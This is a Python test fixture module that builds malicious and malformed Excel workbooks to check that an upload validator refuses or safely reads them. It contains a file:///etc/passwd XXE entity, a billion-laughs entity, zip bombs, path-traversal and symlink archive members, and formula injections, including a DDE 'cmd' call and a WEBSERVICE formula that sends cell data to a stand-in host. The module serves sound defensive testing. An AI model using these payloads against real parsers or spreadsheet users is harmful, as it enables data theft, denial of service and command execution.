"""Hostile, broken and odd files made by code from an honest questionnaire, each small, each by its name."""

import gzip
import io
import re
import struct
import zipfile

from fcio.exchange.questionnaire import shape
from fcio.exchange.xml_guard import MOST_COLUMNS, MOST_ROWS
from fcio.exchange.zip_guard import MOST_PARTS, MOST_UNPACKED
from fcio.knowledge.load import load
from tests.exchange.questionnaire.filling import Filling, empty
from tests.exchange.spend_books import zipped

HONEST = empty(load(), areas=False)
SHEET, STRINGS, BOOK, STYLES = "xl/worksheets/sheet2.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"
TYPES = "[Content_Types].xml"
MACROS = "this workbook holds macros"
DAMAGED, OUTSIDE, NO_BOOK = "this file is damaged", "paths that lead outside", "this is not an Excel workbook"
LARGE, MUCH, DOCTYPE = (
    "this file grows beyond 20 MB",
    "this file holds far more than a questionnaire",
    "holds a DOCTYPE",
)
NO_ZIP_BOOK, NO_READ = "this is a zip file and no Excel workbook", "this workbook cannot be read"
NONE_OF_OURS, OVER = "this is no questionnaire of this program", "lie over each other"
LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;">]>'
FETCH = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


def parts():
    with zipfile.ZipFile(io.BytesIO(HONEST)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def changed(more):
    """The honest file in which some parts are others; None takes one out."""
    return zipped([(name, content) for name, content in (parts() | more).items() if content is not None])


def replaced(name, old, new, count=1):
    """The honest file with a text in one of its parts replaced."""
    content = parts()[name].decode()
    assert old in content, old
    return changed({name: content.replace(old, new, count)})


def before_root(name, text):
    """The honest file with something before the root of a part."""
    return changed(
        {name: re.sub(r"(<\?xml[^>]*\?>\s*)", lambda found: found[1] + text, parts()[name].decode(), count=1)}
    )


def with_rows(rows):
    return replaced(SHEET, "</sheetData>", f"{rows}</sheetData>")


def row(number, cells):
    return f'<row r="{number}">{cells}</row>'


def with_answer(cell):
    """The honest file whose answer to how many people work there is this XML; ``{at}`` becomes the address."""
    filling = Filling(HONEST)
    at = filling.cell("headcount", shape.ANSWER).coordinate
    content = parts()[SHEET].decode()
    found = re.search(rf'<c r="{at}"[^>]*/>', content)
    return changed({SHEET: content.replace(found[0], cell.format(at=at))})


def patched(marker, offset, value, which=0):
    """The honest file with some bytes behind the nth directory entry (or another mark) replaced."""
    content, start = bytearray(HONEST), -1
    for _ in range(which + 1):
        start = content.index(marker, start + 1)
    content[start + offset : start + offset + len(value)] = value
    return bytes(content)


ENTRY, HEADER, END = b"PK\x01\x02", b"PK\x03\x04", b"PK\x05\x06"


def with_member(name, mode=None, system=3, packing=zipfile.ZIP_DEFLATED, content=b"x"):
    info = zipfile.ZipInfo(name)
    info.create_system, info.compress_type = system, packing
    if mode is not None:
        info.external_attr = mode << 16
    stream = io.BytesIO(HONEST)
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr(info, content)
    return stream.getvalue()


def renamed_raw(name):
    """A member whose name the writer would mend, put in byte by byte."""
    stand_in = "x" * len(name)
    return with_member(stand_in).replace(stand_in.encode(), name.encode())


def overlapping(shift=0):
    """Two entries of the directory that point at one stretch of the file."""
    content = bytearray(with_member("xl/media/second.bin", content=b"y" * 100))
    last = content.rindex(ENTRY)
    first = content.index(ENTRY)
    (offset,) = struct.unpack_from("<I", content, first + 42)
    struct.pack_into("<I", content, last + 42, offset + shift)
    return bytes(content)


def lying_bomb():
    """Four megabytes of nothing whose directory says a hundred bytes."""
    content = bytearray(changed({"xl/media/a.bin": b"\0" * 4 * 2**20}))
    last = content.rindex(ENTRY)
    struct.pack_into("<I", content, last + 24, 100)
    return bytes(content)


def huge_by_directory():
    content = bytearray(changed({"xl/media/a.bin": b"abc"}))
    struct.pack_into("<I", content, content.rindex(ENTRY) + 24, 0xFFFFFFF0)
    return bytes(content)


def nested_bomb():
    inner = zipped([("zeros", b"\0" * 2**20)])
    for _ in range(3):
        inner = zipped([("inner.zip", inner)])
    return changed({"xl/media/inner.zip": inner})


def bad_stream():
    data = parts()
    content = changed({SHEET: data[SHEET]})
    at = content.index(SHEET.encode()) + len(SHEET) + 40
    return content[:at] + bytes(255 - byte for byte in content[at : at + 30]) + content[at + 30 :]


def without_lists():
    filling = Filling(HONEST)
    del filling.book[shape.LISTS]
    return filling.saved()


def relabelled(old, new):
    filling = Filling(HONEST)
    for cell in filling.book[shape.QUESTIONS][4]:
        if cell.value == old:
            cell.value = new
    return filling.saved()


def many_sheets():
    filling = Filling(HONEST)
    for number in range(60):
        filling.book.create_sheet(f"More {number}")
    return filling.saved()


def ids_of_nobody():
    filling = Filling(HONEST)
    for cell in filling.book[shape.QUESTIONS]["A"][4:]:
        cell.value = f"nobody_{cell.row}"
    return filling.saved()


def copied_rows():
    filling = Filling(HONEST)
    for number in range(300, 3300):
        filling.book[shape.QUESTIONS].cell(number, 1).value = "headcount"
    return filling.saved()


def formulas():
    filling = Filling(HONEST).answer("headcount", '=WEBSERVICE("http://example.invalid/?"&A1)')
    filling.answer("industry", "=cmd|'/c calc'!A0").put("growth", shape.COMMENT, '=HYPERLINK("file:///etc/passwd")')
    return filling.saved()


def strict():
    old, new = (
        "http://schemas.openxmlformats.org/spreadsheetml/2006/main",
        "http://purl.oclc.org/ooxml/spreadsheetml/main",
    )
    return changed({name: part.replace(old.encode(), new.encode()) for name, part in parts().items()})


def sized(dimension):
    """The honest file whose sheet claims to be this large."""
    return changed({SHEET: re.sub(r"<dimension [^>]*>", dimension, parts()[SHEET].decode())})


def rules(number):
    one = '<dataValidation type="list" sqref="A1"><formula1>"a"</formula1></dataValidation>'
    return replaced(SHEET, "</dataValidations>", one * number + "</dataValidations>")


def merges(number):
    spans = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, number))
    return replaced(SHEET, "</mergeCells>", f"{spans}</mergeCells>")


def styles(number):
    more = "".join(f'<xf numFmtId="{n}" fontId="{n * 7}" fillId="0" borderId="0"/>' for n in range(number))
    return replaced(STYLES, "</cellXfs>", f"{more}</cellXfs>")


def names(number):
    one = "".join(f'<definedName name="n{n}">Lists!$A$1</definedName>' for n in range(number))
    return replaced(BOOK, "</definedNames>", f"{one}</definedNames>")


def attributes(number, letters="utf-8"):
    """Signs of other letters stand where bytes of them look like the start of a tag."""
    more = "".join(f' a{n}="\u3c3c"' for n in range(number))
    sheet = parts()[SHEET].decode().replace("UTF-8", letters).replace("<sheetData", f"<sheetData{more}")
    return changed({SHEET: sheet.encode(letters)})


ENDLESS = "a tag or a text without end"
CELL = '<c r="{at}"><v>{value}</v></c>'
DOWN = MOST_ROWS + 1
AS_MACRO = parts()[TYPES].replace(b"sheet.main+xml", b"sheet.macroEnabled.main+xml")

REFUSED = {
    # no workbook at all, or another kind of file under its name
    "nothing at all": (lambda: b"", "this file is empty"),
    "one byte": (lambda: b"P", NO_BOOK),
    "only the first four bytes of a zip": (lambda: b"PK\x03\x04", DAMAGED),
    "zeros": (lambda: b"\0" * 5000, NO_BOOK),
    "a list in plain text": (lambda: b"fcio id,Answer\nheadcount,46\n", NO_BOOK),
    "a case file": (lambda: b'{"fcio": 1, "client": {"name": "x"}}', NO_BOOK),
    "a PDF": (lambda: b"%PDF-1.7\n%%EOF", NO_BOOK),
    "a web page": (lambda: b"<html><table><tr><td>46</td></tr></table></html>", NO_BOOK),
    "a workbook as one XML file": (lambda: b'<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>', NO_BOOK),
    "a picture": (lambda: b"\x89PNG\r\n\x1a\n" + b"\0" * 99, NO_BOOK),
    "another kind of archive": (lambda: b"7z\xbc\xaf\x27\x1c" + b"\0" * 99, NO_BOOK),
    "packed once more": (lambda: gzip.compress(HONEST), NO_BOOK),
    "an old workbook": (lambda: OLE + b"\0" * 600, "this is an old Excel file (.xls) or one with a password"),
    "a workbook with a password": (
        lambda: OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600,
        "this is an old Excel file (.xls) or one with a password",
    ),
    "an archive of anything": (lambda: zipped([("readme.txt", b"hello")]), NO_ZIP_BOOK),
    "an empty archive": (lambda: zipped([]), NO_BOOK),
    "a program for Java": (lambda: zipped([("META-INF/MANIFEST.MF", b"Main-Class: A")]), NO_ZIP_BOOK),
    "a Word document": (lambda: zipped([("word/document.xml", b"<a/>")]), "this is a Word document"),
    "slides": (lambda: zipped([("ppt/presentation.xml", b"<a/>")]), "this is a PowerPoint file"),
    "an OpenDocument spreadsheet": (lambda: zipped([("content.xml", b"<a/>")]), "this is an OpenDocument file"),
    "a binary workbook": (lambda: zipped([("xl/workbook.bin", b"x")]), "this is a binary workbook (.xlsb)"),
    "a Numbers file": (lambda: zipped([("Index/Document.iwa", b"x")]), "this is a Numbers file"),
    "a Strict Open XML workbook": (strict, "this is a Strict Open XML workbook"),
    "more bytes than allowed": (
        lambda: HEADER + b"x" * shape.PURPOSE.most_bytes,
        "this file has 10.0 MB; keep to 10 MB",
    ),
    # damaged
    "half a file": (lambda: HONEST[: len(HONEST) // 2], DAMAGED),
    "a file without its end": (lambda: HONEST[:-30], DAMAGED),
    "a file without its beginning": (lambda: HONEST[50:], NO_BOOK),
    "a part that does not unpack": (bad_stream, DAMAGED),
    "a wrong checksum": (lambda: patched(ENTRY, 16, b"\1\2\3\4"), DAMAGED),
    "a directory that lies elsewhere": (lambda: patched(END, 16, b"\xff\xff\xff\x7f"), DAMAGED),
    "XML that is none": (lambda: with_rows("<row"), DAMAGED),
    "XML in letters nobody knows": (
        lambda: changed({"docProps/app.xml": b'<?xml version="1.0" encoding="klingon"?><a/>'}),
        DAMAGED,
    ),
    "letters that UTF-8 does not have": (lambda: changed({"docProps/app.xml": b"<a>\xff\xfe\xfa</a>"}), DAMAGED),
    "no contents page": (lambda: changed({TYPES: None}), NO_ZIP_BOOK),
    "no workbook part": (lambda: changed({BOOK: None}), NO_ZIP_BOOK),
    "no links between its parts": (lambda: changed({"xl/_rels/workbook.xml.rels": None}), NO_READ),
    "a text that is not there": (lambda: with_answer('<c r="{at}" t="s"><v>999999</v></c>'), NO_READ),
    "a text before the first": (lambda: with_answer('<c r="{at}" t="s"><v>-999999</v></c>'), NO_READ),
    # macros
    "macros by their part": (lambda: changed({"xl/vbaProject.bin": b"x"}), MACROS),
    "macros by the type of the workbook": (lambda: changed({TYPES: AS_MACRO}), MACROS),
    "macros by a type in other letters": (
        lambda: changed({TYPES: AS_MACRO.decode().replace("UTF-8", "UTF-16").encode("utf-16")}),
        MACROS,
    ),
    "macros by a type in capitals": (
        lambda: changed({TYPES: AS_MACRO.replace(b"macroEnabled", b"MACROENABLED")}),
        MACROS,
    ),
    "macros of the old kind": (lambda: changed({"xl/macrosheets/sheet1.xml": b"<a/>"}), MACROS),
    # encrypted or packed as no spreadsheet is
    "an encrypted part": (lambda: patched(ENTRY, 8, b"\x01\x00"), "this file is encrypted"),
    "a strongly encrypted part": (lambda: patched(ENTRY, 8, b"\x40\x00"), "this file is encrypted"),
    "an encrypted directory": (lambda: patched(ENTRY, 8, b"\x00\x20"), "this file is encrypted"),
    "packed as bzip2": (lambda: with_member("xl/a.bin", packing=zipfile.ZIP_BZIP2), "packed in a way"),
    "packed as LZMA": (lambda: with_member("xl/a.bin", packing=zipfile.ZIP_LZMA), "packed in a way"),
    "packed in a way that does not exist": (lambda: patched(ENTRY, 10, b"\x63\x00"), "packed in a way"),
    # bombs
    "very many parts": (lambda: changed({f"x/{n}.xml": b"<a/>" for n in range(MOST_PARTS)}), "this file has 5"),
    "a bomb": (lambda: changed({"xl/a.bin": b"\0" * (MOST_UNPACKED // 2)}), LARGE),
    "a bomb of XML": (lambda: changed({"xl/a.xml": b"<a>" + b" " * (MOST_UNPACKED // 2) + b"</a>"}), LARGE),
    "a bomb in many pieces": (lambda: changed({f"xl/{n}.bin": b"\0" * 2**19 for n in range(60)}), LARGE),
    "a bomb that lies about its size": (lying_bomb, "this file"),
    "a size of four gigabytes": (huge_by_directory, LARGE),
    "two parts in one place": (overlapping, OVER),
    "a part inside another": (lambda: overlapping(7), OVER),
    "a part that is nowhere": (lambda: patched(ENTRY, 42, b"\xf0\xff\xff\x00"), "this file"),
    # paths, links, names
    "a path that leads up": (lambda: renamed_raw("xl/../../evil.xml"), OUTSIDE),
    "a path from the root": (lambda: renamed_raw("/etc/cron.d/evil"), OUTSIDE),
    "a path of Windows": (lambda: renamed_raw("C:/evil.xml"), OUTSIDE),
    "a path with backslashes": (lambda: renamed_raw("xl\\..\\evil.xml"), OUTSIDE),
    "a path with a zero": (lambda: renamed_raw("xl/a.xml\0.png"), OUTSIDE),
    "a symbolic link": (lambda: with_member("xl/link.xml", 0o120777, content=b"/etc/passwd"), OUTSIDE),
    "a pipe": (lambda: with_member("xl/pipe", 0o010644), OUTSIDE),
    "a device": (lambda: with_member("xl/device", 0o020644), OUTSIDE),
    "a part twice": (lambda: renamed_raw(STYLES), "this file holds a part twice"),
    "a part twice in other letters": (lambda: with_member("XL/Worksheets/Sheet2.XML"), "this file holds a part twice"),
    # XML that attacks its reader
    "entities in a sheet": (lambda: before_root(SHEET, LAUGHS), DOCTYPE),
    "entities in the texts": (lambda: before_root(STRINGS, LAUGHS), DOCTYPE),
    "entities in the workbook": (lambda: before_root(BOOK, LAUGHS), DOCTYPE),
    "entities in the styles": (lambda: before_root(STYLES, LAUGHS), DOCTYPE),
    "entities in the properties": (lambda: before_root("docProps/core.xml", LAUGHS), DOCTYPE),
    "entities in the links": (lambda: before_root("xl/_rels/workbook.xml.rels", LAUGHS), DOCTYPE),
    "entities in the contents page": (lambda: before_root(TYPES, LAUGHS), DOCTYPE),
    "entities in other letters": (lambda: changed({"xl/theme/theme1.xml": f"{LAUGHS}<a/>".encode("utf-16")}), DOCTYPE),
    "entities under another ending": (lambda: changed({"xl/media/a.png": f" {LAUGHS}<a/>".encode()}), DOCTYPE),
    "a file of the machine fetched": (lambda: before_root(STRINGS, FETCH), DOCTYPE),
    "a document type and nothing else": (lambda: before_root(STRINGS, "<!DOCTYPE a>"), DOCTYPE),
    "XML nested very deeply": (lambda: with_rows("<a>" * 500 + "</a>" * 500), "this file is nested too deeply"),
    "far more than a questionnaire": (
        lambda: with_rows(row(900, "".join(f'<a b="{n}"/>' for n in range(700_000)))),
        MUCH,
    ),
    "a tag with very many attributes": (lambda: attributes(900_000), ENDLESS),
    "a tag with many attributes": (lambda: attributes(300), ENDLESS),
    "a tag in other letters with very many attributes": (lambda: attributes(200_000, "utf-16"), ENDLESS),
    "very many rules": (lambda: rules(30_000), MUCH),
    "very many styles": (lambda: styles(50_000), MUCH),
    "very many names": (lambda: names(50_000), MUCH),
    "very many merged cells": (lambda: merges(400), "merged cells that cannot be read"),
    "very many sheets": (many_sheets, "sheets; keep only the sheets of the questionnaire"),
    # cells
    "a cell in the last row of all": (
        lambda: with_rows(row(1048576, CELL.format(at="A1048576", value=1))),
        "a sheet has something in row 1,048,576; keep to 5,000 rows",
    ),
    "one row too many": (
        lambda: with_rows(row(DOWN, CELL.format(at=f"A{DOWN}", value=1))),
        f"something in row {DOWN:,}",
    ),
    "a cell in the last column of all": (
        lambda: with_rows(row(900, CELL.format(at="XFD900", value=1))),
        "column 16,384",
    ),
    "one column too many": (
        lambda: with_rows(row(900, CELL.format(at="CW900", value=1))),
        f"column {MOST_COLUMNS + 1}; keep to {MOST_COLUMNS} columns",
    ),
    "a row twice": (lambda: with_rows(row(900, "") * 2), "this file holds a row twice"),
    "a cell twice": (lambda: with_rows(row(900, CELL.format(at="A900", value=1) * 2)), "this file holds a cell twice"),
    "a cell nowhere": (lambda: with_rows(row(900, CELL.format(at="ZZZZ9", value=1))), "out of its place"),
    "a number that is none": (lambda: with_answer('<c r="{at}"><v>NaN</v></c>'), "says that it holds a number"),
    "a number without end": (
        lambda: with_answer('<c r="{at}"><v>' + "9" * 400 + "</v></c>"),
        "says that it holds a number",
    ),
    # no questionnaire of ours
    "a workbook of something else": (lambda: relabelled(shape.ID, "Nr"), NONE_OF_OURS),
    "a heading twice": (lambda: relabelled(shape.OPEN, shape.ANSWER), "twice; keep one"),
    "no answers in it": (lambda: relabelled(shape.ANSWER, "Antwort"), "has lost the heading"),
}
"""By name: how the file is made, and a part of the sentence that refuses it."""

READ = {
    "a bomb nobody opens": (nested_bomb, {}),
    "a very long text": (lambda: Filling(HONEST).comment("headcount", "x" * 32_000).saved(), {"unreadable": 1}),
    "a number far too large": (lambda: with_answer('<c r="{at}"><v>1e999</v></c>'), {"unreadable": 1}),
    "a number far too small": (lambda: with_answer('<c r="{at}"><v>-1e308</v></c>'), {"unreadable": 1}),
    "a size of the sheet that is a lie": (lambda: sized('<dimension ref="A1:XFD1048576"/>'), {}),
    "no size of the sheet": (lambda: sized(""), {}),
    "formulas that fetch and call": (formulas, {"unreadable": 3}),
    "a formula over all cells": (
        lambda: with_answer('<c r="{at}"><f t="array" ref="A1:XFD1048576">ROW(A:A)</f><v>1</v></c>'),
        {"unreadable": 1},
    ),
    "a formula that was never worked out": (lambda: with_answer('<c r="{at}"><f>1/0</f></c>'), {"unreadable": 1}),
    "an error": (lambda: with_answer('<c r="{at}" t="e"><v>#REF!</v></c>'), {"unreadable": 1}),
    "a truth value": (lambda: with_answer('<c r="{at}" t="b"><v>1</v></c>'), {"unreadable": 1}),
    "a day in the ISO form": (lambda: with_answer('<c r="{at}" t="d"><v>2026-05-03</v></c>'), {"unreadable": 1}),
    "a text inside its cell": (lambda: with_answer('<c r="{at}" t="inlineStr"><is><t>46</t></is></c>'), {"answers": 1}),
    "a text inside its cell that is not there": (lambda: with_answer('<c r="{at}" t="inlineStr"/>'), {}),
    "a text with a reading beside it": (
        lambda: with_answer('<c r="{at}" t="inlineStr"><is><t>46</t><rPh sb="0" eb="1"><t>ten</t></rPh></is></c>'),
        {"answers": 1},
    ),
    "a text in pieces": (
        lambda: with_answer('<c r="{at}" t="inlineStr"><is><r><t>4</t></r><r><t>6</t></r></is></c>'),
        {"answers": 1},
    ),
    "half a letter": (
        lambda: with_answer('<c r="{at}" t="inlineStr"><is><t>_xD83D_</t></is></c>'),
        {"unreadable": 1},
    ),
    "many copies of one row": (copied_rows, {}),
    "rows of no question of ours": (ids_of_nobody, {}),
    "no lists": (without_lists, {}),
    "an honest one": (lambda: HONEST, {}),
    "an honest one with something behind it": (lambda: HONEST + b"\0" * 1000, {}),
    "cells with a colour far away": (
        lambda: with_rows('<row r="900"><c r="XFD900" s="1"/></row><row r="1048576"><c r="A1048576" s="1"/></row>'),
        {},
    ),
    "an object put into it": (lambda: changed({"xl/embeddings/oleObject1.bin": OLE + b"\0" * 99}), {}),
    "links to another workbook": (lambda: changed({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), {}),
}
"""By name: how the file is made, and how many answers and unreadable cells are found when it is read honestly."""

DANGEROUS = (
    "a bomb",
    "a bomb of XML",
    "a bomb that lies about its size",
    "a size of four gigabytes",
    "two parts in one place",
    "entities in the texts",
    "far more than a questionnaire",
    "a tag with very many attributes",
    "a tag in other letters with very many attributes",
    "very many rules",
    "very many styles",
    "a cell in the last row of all",
    "many copies of one row",
    "half a letter",
    "a size of the sheet that is a lie",
)

ENDINGS = (
    ("filled.xlsm", "this kind of workbook can hold macros; save it as a workbook without macros (.xlsx)"),
    ("filled.xls", "only .xlsx files can be read; save it as such a one"),
    ("filled.ods", "only .xlsx files can be read; save it as such a one"),
    ("filled", "only .xlsx files can be read; save it as such a one"),
)
